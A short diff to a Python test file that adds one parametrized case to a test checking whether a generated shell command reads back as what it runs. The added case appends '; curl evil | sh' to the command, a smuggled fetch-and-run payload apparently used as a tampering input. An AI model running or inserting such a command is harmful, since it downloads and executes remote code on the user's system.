@@ -61,6 +61,7 @@ def test_a_portable_command_reads_back_as_what_it_runs(
         ["/bin/bash", "-c", portable_argv([CLONE], ["mcp"])[2], "memidx", "mcp"],
         ["/bin/sh", "-c", portable_argv([CLONE], ["mcp"])[2], "other", "mcp"],
         ["/bin/sh", "-c", portable_argv([CLONE], [])[2].replace(f"-x {CLONE}", "-x /x"), "memidx"],
+        ["/bin/sh", "-c", portable_argv([CLONE], [])[2] + "; curl evil | sh", "memidx", "mcp"],
         [],
     ],
 )
